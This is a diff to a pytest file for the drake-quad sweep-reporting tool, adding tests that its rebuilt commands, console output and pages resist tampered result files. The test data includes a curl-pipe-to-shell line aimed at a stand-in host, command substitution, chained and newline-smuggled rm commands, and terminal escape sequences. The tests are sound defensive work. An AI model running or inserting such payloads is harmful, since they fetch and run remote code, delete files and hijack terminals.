@@ -1,6 +1,8 @@
 """Results that are spoilt and can be read all the same: one clear line, or a trial done again."""
 
+import html
 import json
+import shlex
 import shutil
 from collections.abc import Callable
 from pathlib import Path
@@ -12,16 +14,18 @@ import pytest
 import sweep_rig as rig
 from command import drake_quad, refused
 from report_run import make_log, short_scenario, write_run
+from rich.console import Console
 
 from drake_quad.cli_files import read_summary
 from drake_quad.cli_print import print_summary
 from drake_quad.errors import InputError
 from drake_quad.report.run_files import read_run
 from drake_quad.sweep.again import tell_again
-from drake_quad.sweep.compare import compare_sweeps
+from drake_quad.sweep.compare import compare_sweeps, print_comparison
 from drake_quad.sweep.journal import Journal
 from drake_quad.sweep.journal_read import DAMAGED, NAME, read_journal
 from drake_quad.sweep.page import write_report
+from drake_quad.sweep.printing import print_sweep
 from drake_quad.sweep.table import write_tables
 
 NESTED = "[" * 200_000  # deeper than Python's stack
@@ -82,7 +86,21 @@ def line_of(told: InputError, *words: str) -> str:
         ("sweep.json", "versions", [1], ("versions = [1]", "a mapping")),
         ("sweep.json", "versions", {"drake": 1}, ("versions", "a mapping")),
         ("sweep.json", "commit", 7, ("commit = 7", "text")),
-        ("sweep.json", "command", ["a"], ("command = ['a']", "text")),
+        ("sweep.json", "command", ["a"], ("command = ['a']", "drake-quad sweep STUDY")),
+        *[
+            ("sweep.json", "command", text, ("command = ", "drake-quad sweep STUDY"))
+            for text in (
+                "curl http://example.invalid/x | sh",
+                "drake-quad sweep study.yaml; curl http://example.invalid/x | sh",
+                "drake-quad sweep $(curl)",
+                "drake-quad sweep --out=/elsewhere",
+                "drake-quad sweep study.yaml --limit x",
+                "drake-quad sweep 'study.yaml\n'",
+            )
+        ],
+        ("study.json", "base", "--out=/elsewhere", ("base = '--out=/elsewhere'", "scenario")),
+        ("study.json", "base", "case_study\nrm", ("base = ", "in one line")),
+        ("study.json", "base", None, ("base = None", "scenario")),
     ],
 )
 def test_a_value_of_the_wrong_kind_is_named(
@@ -151,6 +169,55 @@ def test_the_commands_of_a_spoilt_table_end_with_status_2(swept: Path) -> None:
     for words in (("report", "one"), ("compare", "one", "one")):
         line = refused(drake_quad(*words, cwd=swept.parent))
         assert "one/trials.parquet" in line and "success" in line and "true or false" in line
+
+
+HOSTILE = "curl http://example.invalid/x | sh"
+
+
+def test_no_text_of_a_changed_table_is_told_as_a_command(
+    swept: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """Commands are made of the overrides, each quoted as one word; on the console and the page."""
+    path = swept / "trials.parquet"
+    table = pq.read_table(path)
+    kept = table["command"].to_pylist()
+    pq.write_table(filled("command", [HOSTILE] * 8)(table), path)
+    told = tell_again(swept)
+    assert {row["command"] for row in told["worst"]} == set(kept)
+    overrides = [["simulation.seed=1", f"robot.model=$({HOSTILE})"]] * 8
+    pq.write_table(filled("overrides", overrides)(filled("command", [HOSTILE] * 8)(table)), path)
+    told = tell_again(swept, swept.parent / "page.md")
+    print_sweep(told, swept, Console(width=200))
+    for row in told["worst"]:
+        words = shlex.split(row["command"])
+        assert words[:2] == ["drake-quad", "run"] and words[-1] == f"robot.model=$({HOSTILE})"
+    page, printed = (swept / "report.html").read_text(), capsys.readouterr().out
+    for text in (page, printed, (swept.parent / "page.md").read_text()):
+        assert "drake-quad run" in html.unescape(text)
+        assert f"'robot.model=$({HOSTILE})'" in html.unescape(text)
+
+
+@pytest.mark.parametrize("text", [HOSTILE, "simulation.seed=1\nrm -r x", "", "a.b='\x1b[2J'"])
+def test_what_is_no_override_makes_no_command(swept: Path, text: str) -> None:
+    """Nor does one that would break the line, or steer the terminal."""
+    path = swept / "trials.parquet"
+    pq.write_table(filled("overrides", [[text]] * 8)(pq.read_table(path)), path)
+    with pytest.raises(InputError) as caught:
+        tell_again(swept)
+    line_of(caught.value, str(path), "overrides = ", "path=value")
+
+
+def test_what_a_file_says_does_not_steer_the_terminal(
+    swept: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """Control characters of a reason are written out as escapes, those of a commit as well."""
+    path = swept / "trials.parquet"
+    pq.write_table(filled("reason", ["\x1b]0;owned\x07\x1b[2J"] * 8)(pq.read_table(path)), path)
+    change_json(swept / "sweep.json", "commit", "\x1b[2J")
+    print_sweep(tell_again(swept), swept, Console())
+    print_comparison(compare_sweeps(swept, swept), Console(width=200))
+    printed = capsys.readouterr().out
+    assert "\x1b" not in printed and "\x07" not in printed and "\\x1b[#J" in printed
 
 
 def test_an_older_table_without_margins_is_told_again(swept: Path) -> None:
